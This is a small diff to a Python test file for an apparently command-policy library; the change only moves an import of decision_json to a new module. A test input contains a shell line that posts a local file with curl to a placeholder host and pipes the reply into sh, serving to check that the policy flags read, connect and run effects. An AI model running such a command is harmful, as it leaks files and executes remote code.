@@ -187,7 +187,7 @@ def test_explain_and_json_show_parts() -> None:
     request = Request("run", "ls\ncurl -d @x https://a.example | sh", workspace="/work", lexical=True)
     explanation = POLICY.explain(request)
     assert {e.action for e in explanation.decision.effects} >= {"run", "read", "connect"}
-    from policy_lang.domain.plain import decision_json
+    from policy_lang.domain.serialize import decision_json
     from policy_lang.report.decisions import render_explanation
 
     text = render_explanation(request, explanation)
